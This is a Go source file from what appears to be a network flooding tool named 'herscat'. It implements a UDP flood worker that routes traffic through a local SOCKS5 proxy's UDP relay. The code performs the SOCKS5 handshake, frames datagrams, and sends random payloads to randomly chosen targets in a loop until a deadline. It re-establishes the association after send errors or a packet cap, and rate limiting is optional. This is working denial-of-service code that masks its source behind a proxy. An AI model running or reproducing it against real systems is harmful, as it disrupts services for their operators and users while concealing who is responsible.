package workers

import (
	"context"
	cryptorand "crypto/rand"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"time"

	"golang.org/x/time/rate"

	"herscat/internal/stats"
	"herscat/internal/targets"
	herrors "herscat/pkg/errors"
)

const (
	udpFloodBackoff  = 250 * time.Millisecond
	socksReplyHeader = 4 // VER REP RSV ATYP
)

// association is a live SOCKS5 UDP-ASSOCIATE session: the TCP control
// stream must stay open for the relay to keep forwarding, and udpSocket is
// the local UDP endpoint datagrams are sent from.
type association struct {
	control   net.Conn
	udpSocket net.Conn // connected to relayAddr
	relayAddr *net.UDPAddr
}

func (a *association) Close() {
	if a.udpSocket != nil {
		a.udpSocket.Close()
	}
	if a.control != nil {
		a.control.Close()
	}
}

// NewUDPFloodWorker builds a worker that establishes a SOCKS5 UDP-ASSOCIATE
// session against 127.0.0.1:proxyPort and emits framed datagrams to a
// random Socket target, tearing down and re-establishing the association on
// any send error or when packetsPerConnection is reached.
func NewUDPFloodWorker(proxyPort int, socketTargets []targets.Target, packetSize, packetsPerConnection int, limiter *rate.Limiter, counters *stats.Counters) func(deadline time.Time) {
	payload := make([]byte, packetSize)
	_, _ = cryptorand.Read(payload)

	return func(deadline time.Time) {
		if len(socketTargets) == 0 {
			return
		}
		for !pastDeadline(deadline) {
			assoc, err := establishAssociation(proxyPort)
			if err != nil {
				counters.RecordFailure()
				time.Sleep(udpFloodBackoff)
				continue
			}

			floodOneAssociation(assoc, socketTargets, payload, packetsPerConnection, limiter, counters, deadline)
			assoc.Close()
		}
	}
}

func floodOneAssociation(assoc *association, socketTargets []targets.Target, payload []byte, limit int, limiter *rate.Limiter, counters *stats.Counters, deadline time.Time) {
	sent := 0
	for !pastDeadline(deadline) {
		if limit > 0 && sent >= limit {
			return
		}

		target := socketTargets[rand.IntN(len(socketTargets))]
		datagram, err := frameDatagram(target, payload)
		if err != nil {
			counters.RecordFailure()
			return
		}

		if _, err := assoc.udpSocket.Write(datagram); err != nil {
			counters.RecordFailure()
			time.Sleep(udpFloodBackoff)
			return
		}
		counters.RecordPacket(uint64(len(payload)))
		sent++

		if limiter != nil {
			if err := limiter.Wait(context.Background()); err != nil {
				return
			}
		}
	}
}

// establishAssociation performs the SOCKS5 greeting and UDP-ASSOCIATE
// handshake described in spec section 4.10 and binds the local UDP socket.
func establishAssociation(proxyPort int) (*association, error) {
	control, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", proxyPort), 10*time.Second)
	if err != nil {
		return nil, &herrors.TransportError{Target: "control", Op: "dial", Err: err}
	}

	if _, err := control.Write([]byte{0x05, 0x01, 0x00}); err != nil {
		control.Close()
		return nil, &herrors.TransportError{Target: "control", Op: "greeting", Err: err}
	}

	greetReply := make([]byte, 2)
	if _, err := readFull(control, greetReply); err != nil || greetReply[0] != 0x05 || greetReply[1] != 0x00 {
		control.Close()
		return nil, &herrors.TransportError{Target: "control", Op: "greeting-reply", Err: fmt.Errorf("unexpected greeting reply")}
	}

	associateReq := []byte{0x05, 0x03, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00}
	if _, err := control.Write(associateReq); err != nil {
		control.Close()
		return nil, &herrors.TransportError{Target: "control", Op: "associate", Err: err}
	}

	header := make([]byte, socksReplyHeader)
	if _, err := readFull(control, header); err != nil {
		control.Close()
		return nil, &herrors.TransportError{Target: "control", Op: "associate-reply", Err: err}
	}
	if header[1] != 0x00 {
		control.Close()
		return nil, &herrors.TransportError{Target: "control", Op: "associate-reply", Err: fmt.Errorf("relay rejected associate, rep=%#x", header[1])}
	}

	relayAddr, err := readRelayAddr(control, header[3])
	if err != nil {
		control.Close()
		return nil, err
	}

	udpSocket, err := net.DialUDP("udp", nil, relayAddr)
	if err != nil {
		control.Close()
		return nil, &herrors.TransportError{Target: "relay", Op: "dial-udp", Err: err}
	}

	return &association{control: control, udpSocket: udpSocket, relayAddr: relayAddr}, nil
}

func readRelayAddr(control net.Conn, atyp byte) (*net.UDPAddr, error) {
	switch atyp {
	case 0x01:
		buf := make([]byte, 4+2)
		if _, err := readFull(control, buf); err != nil {
			return nil, &herrors.TransportError{Target: "relay", Op: "parse-addr", Err: err}
		}
		return &net.UDPAddr{IP: net.IP(buf[:4]), Port: int(binary.BigEndian.Uint16(buf[4:6]))}, nil
	case 0x04:
		buf := make([]byte, 16+2)
		if _, err := readFull(control, buf); err != nil {
			return nil, &herrors.TransportError{Target: "relay", Op: "parse-addr", Err: err}
		}
		return &net.UDPAddr{IP: net.IP(buf[:16]), Port: int(binary.BigEndian.Uint16(buf[16:18]))}, nil
	case 0x03:
		lenBuf := make([]byte, 1)
		if _, err := readFull(control, lenBuf); err != nil {
			return nil, &herrors.TransportError{Target: "relay", Op: "parse-addr", Err: err}
		}
		domain := make([]byte, lenBuf[0]+2)
		if _, err := readFull(control, domain); err != nil {
			return nil, &herrors.TransportError{Target: "relay", Op: "parse-addr", Err: err}
		}
		return nil, fmt.Errorf("%w: domain relay address unsupported", herrors.ErrProtocolInvariant)
	default:
		return nil, fmt.Errorf("%w: unsupported relay ATYP %#x", herrors.ErrProtocolInvariant, atyp)
	}
}

func readFull(conn net.Conn, buf []byte) (int, error) {
	read := 0
	for read < len(buf) {
		n, err := conn.Read(buf[read:])
		read += n
		if err != nil {
			return read, err
		}
	}
	return read, nil
}

// frameDatagram builds the RSV|FRAG|ATYP|DST.ADDR|DST.PORT|payload envelope
// spec section 4.10 requires for every outgoing UDP packet.
func frameDatagram(target targets.Target, payload []byte) ([]byte, error) {
	header := []byte{0x00, 0x00, 0x00}

	if ip := net.ParseIP(target.Host); ip != nil {
		if v4 := ip.To4(); v4 != nil {
			header = append(header, 0x01)
			header = append(header, v4...)
		} else {
			header = append(header, 0x04)
			header = append(header, ip.To16()...)
		}
	} else {
		if len(target.Host) > 255 {
			return nil, fmt.Errorf("%w: domain %q exceeds 255 bytes", herrors.ErrProtocolInvariant, target.Host)
		}
		header = append(header, 0x03, byte(len(target.Host)))
		header = append(header, target.Host...)
	}

	portBuf := make([]byte, 2)
	binary.BigEndian.PutUint16(portBuf, uint16(target.Port))
	header = append(header, portBuf...)

	return append(header, payload...), nil
}
